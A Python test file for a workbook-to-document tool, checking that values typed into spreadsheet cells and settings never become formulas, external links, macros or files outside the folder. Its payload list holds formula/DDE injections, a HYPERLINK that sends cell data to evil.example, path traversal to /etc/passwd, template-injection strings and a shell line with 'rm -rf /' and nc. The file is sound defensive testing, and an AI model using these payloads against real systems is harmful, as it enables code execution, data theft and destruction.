"""What stands in a cell is text: never a formula, a link outside, a path, a template or a macro."""

from __future__ import annotations

import io
import re
import zipfile
from collections.abc import Callable
from pathlib import Path
from urllib.parse import unquote, urlsplit

import pytest
from books import NOW, Said, typed
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from lxml import etree
from test_status_writer import made, replaced
from test_status_writer import parts_of as parts_in

from xltools.core.status import Link, StatusCell, StatusSheet
from xltools.workbook.reader import read_workbook
from xltools.workbook.status_writer import with_status

Xl = Callable[..., Said]
EVIL = [
    "=cmd|'/C calc'!A0",
    "+SUM(1;2)",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "{=TABLE(A1)}",
    '=HYPERLINK("http://evil.example/?"&A1)',
    '=WEBSERVICE("http://evil.example/")',
    "javascript:alert(1)",
    "file:///etc/passwd",
    "\\\\evil.example\\share\\a.docx",
    "//evil.example/share",
    "../../../etc/passwd",
    "C:\\Windows\\system32\\calc.exe",
    "https:evil.example",
    "http://evil.example\\@good.example/",
    "ms-word:ofe|u|http://evil.example/a.docx",
    "data:text/html,<script>1</script>",
    "{{ 7 * 7 }} {% for x in y %} {{ ''.__class__.__mro__ }}",
    "{%tr if x %}{{r memo }}{{ memo.__init__.__globals__ }}",
    "</w:t></w:r><w:fldSimple w:instr=\"DDEAUTO c:\\\\cmd.exe\"/>",
    "</t></is></c><c r=\"A1\"><f>1+1</f></c>",
    "]]><f>1</f><![CDATA[",
    "&lt;f&gt;1&lt;/f&gt; &amp;#61;1",
    "_x003D_1+1 _x000D_",
    "INCLUDETEXT \"c:\\\\secret.txt\" MACROBUTTON run",
    "$(touch /tmp/evil) `id` ; rm -rf / | nc evil 1",
    "%PATH% $HOME ~root",
    "\u202e\u2066cod.exe\u2069",
]  # fmt: skip
PLACES = [
    "agency.name", "memo.subject", "memo.number", "memo.to", "memo.office", "agency.website", "agency.phone",
    "measures.1.title", "measures.2.method", "measures.3.owners", "measures.4.period", "measures.5.summary",
    "measures.6.outcome", "measures.7.evidence", "owners.1.name", "signers.1.name", "signers.1.position",
    "text.1.text",
]  # fmt: skip
SETTINGS = [
    "settings.file_name",
    "settings.output_folder",
    "settings.templates",
    "agency.garuda",
    "settings.language",
]


def _is_harmless(target: str, folder: Path, written: set[str]) -> bool:
    """Whether a link leads to a page, to a mailbox, or to a document this run wrote beside the workbook."""
    address = urlsplit(target)
    if address.scheme in ("http", "https"):
        return bool(address.hostname)
    if address.scheme == "mailto":
        return True
    return (
        not address.scheme
        and not address.netloc
        and unquote(target) in written
        and (folder / unquote(target)).is_file()
    )


def _links(data: bytes) -> list[tuple[str, str]]:
    found = []
    for name, text in parts_in(data).items():
        if name.endswith(".rels"):
            arrows = etree.fromstring(text)
            found += [(name, a.get("Target", "")) for a in arrows if a.get("TargetMode") == "External"]
    return found


def _sheet_part(data: bytes, name: str = "สถานะ") -> bytes:
    parts = parts_in(data)
    book = etree.fromstring(parts["xl/workbook.xml"])
    (sheet,) = [s for s in book.iter("{*}sheet") if s.get("name") == name]
    identifier = sheet.get("{http://schemas.openxmlformats.org/officeDocument/2006/relationships}id")
    (arrow,) = [a for a in etree.fromstring(parts["xl/_rels/workbook.xml.rels"]) if a.get("Id") == identifier]
    return parts["xl/" + arrow.get("Target", "")]


def _nothing_came_alive(folder: Path, book: Path, before: bytes) -> None:
    assert all(path.is_relative_to(folder) for path in folder.rglob("*"))
    written = {p.relative_to(folder).as_posix() for p in folder.rglob("*") if p.is_file()}
    assert all(Path(name).suffix in (".xlsx", ".docx") for name in written), written
    data = book.read_bytes()
    sheet = etree.fromstring(_sheet_part(data))
    assert not list(sheet.iter("{*}f"))
    old = {target for _, target in _links(before)}
    new = {target for _, target in _links(data)} - old
    assert all(_is_harmless(target, folder, written) for target in new), new
    assert _formulas(before) == _formulas(data)
    for path in folder.rglob("*.docx"):
        _is_a_plain_document(path)


def _formulas(data: bytes) -> list[bytes]:
    return re.findall(rb"<f[ >].*?</f>", b"".join(parts_in(data).values()))


def _is_a_plain_document(path: Path) -> None:
    with zipfile.ZipFile(io.BytesIO(path.read_bytes())) as archive:
        names = archive.namelist()
        assert not [n for n in names if "vba" in n.lower() or "embeddings" in n or "activeX" in n]
        for name in names:
            if name.endswith(".rels"):
                outside = [
                    a.get("Target", "")
                    for a in etree.fromstring(archive.read(name))
                    if a.get("TargetMode") == "External"
                ]
                assert all(urlsplit(target).scheme in ("http", "https", "mailto") for target in outside), (
                    outside
                )
        document = etree.fromstring(archive.read("word/document.xml"))
        codes = [e.text or "" for e in document.iter("{*}instrText")] + [
            e.get(f"{{{e.nsmap['w']}}}instr") or "" for e in document.iter("{*}fldSimple")
        ]
        assert not [code for code in codes if re.search("DDE|INCLUDE|MACRO|evil", code)], codes


@pytest.mark.parametrize("evil", EVIL)
def test_nothing_typed_into_a_cell_comes_alive(book: Path, xl: Xl, evil: str) -> None:
    for place in PLACES:
        try:
            typed(book, {place: evil})
        except (KeyError, StopIteration):
            raise AssertionError(f"no such place: {place}") from None
    before = book.read_bytes()
    said = xl("generate", book, "--draft", "--now", NOW)
    assert said.code == 1, "made as a draft: " + said.err
    assert list(book.parent.glob("*.docx"))
    _nothing_came_alive(book.parent, book, before)


@pytest.mark.parametrize("place", SETTINGS)
@pytest.mark.parametrize("evil", EVIL[8:])
def test_nothing_typed_into_the_settings_leads_out(book: Path, xl: Xl, place: str, evil: str) -> None:
    inside = book.parent / "office"
    inside.mkdir()
    book = book.rename(inside / book.name)
    typed(book, {place: evil})
    before = book.read_bytes()
    said = xl("generate", book, "--draft", "--now", NOW)
    assert said.code in (0, 1, 3)
    assert said.err.count("\n") <= 1 or said.code != 3
    assert [p.name for p in inside.parent.iterdir()] == ["office"], "nothing outside the workbook's folder"
    if said.code == 3:
        assert (book.read_bytes(), [p.name for p in inside.iterdir()]) == (before, [book.name])
    else:
        _nothing_came_alive(inside, book, before)


_TEXT = st.text(st.characters(blacklist_categories=["Cs"]), max_size=60) | st.sampled_from(EVIL)


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(_TEXT, _TEXT, _TEXT)
def test_any_text_of_the_status_sheet_is_text_and_any_link_harmless(
    text: str, target: str, location: str
) -> None:
    row = (
        StatusCell(text),
        StatusCell("ไป", "link", Link(target=target)),
        StatusCell(text, "link", Link(location=location)),
    )
    data = with_status(made(), StatusSheet("สถานะ", (row,), (), (10, 10, 10)))
    assert not list(etree.fromstring(_sheet_part(data)).iter("{*}f"))
    for _, address in _links(data):
        scheme = urlsplit(address).scheme
        assert scheme in ("http", "https", "mailto", "")
        assert scheme or not address.startswith(("/", "\\"))
    status = next(s for s in read_workbook(data).sheets if s.name == "สถานะ")
    assert status.value(1, 1) in (text.replace("\r\n", "\n").replace("\r", "\n"), None)


def test_the_measure_sees_a_formula_a_program_and_a_link(book: Path, xl: Xl) -> None:
    folder, before = book.parent, book.read_bytes()
    assert xl("generate", book, "--now", NOW).code == 0
    _nothing_came_alive(folder, book, before)
    assert not _is_harmless("file:///etc/passwd", folder, {book.name})
    assert not _is_harmless("../x.docx", folder, {book.name})
    assert _is_harmless("https://example.org/", folder, set())
    sound = book.read_bytes()
    book.write_bytes(
        replaced(sound, "xl/worksheets/sheet9.xml", "<sheetData>", "<sheetData><row><c><f>1</f></c></row>")
    )
    with pytest.raises(AssertionError):
        _nothing_came_alive(folder, book, before)
    book.write_bytes(sound)
    (folder / "evil.exe").touch()
    with pytest.raises(AssertionError):
        _nothing_came_alive(folder, book, before)
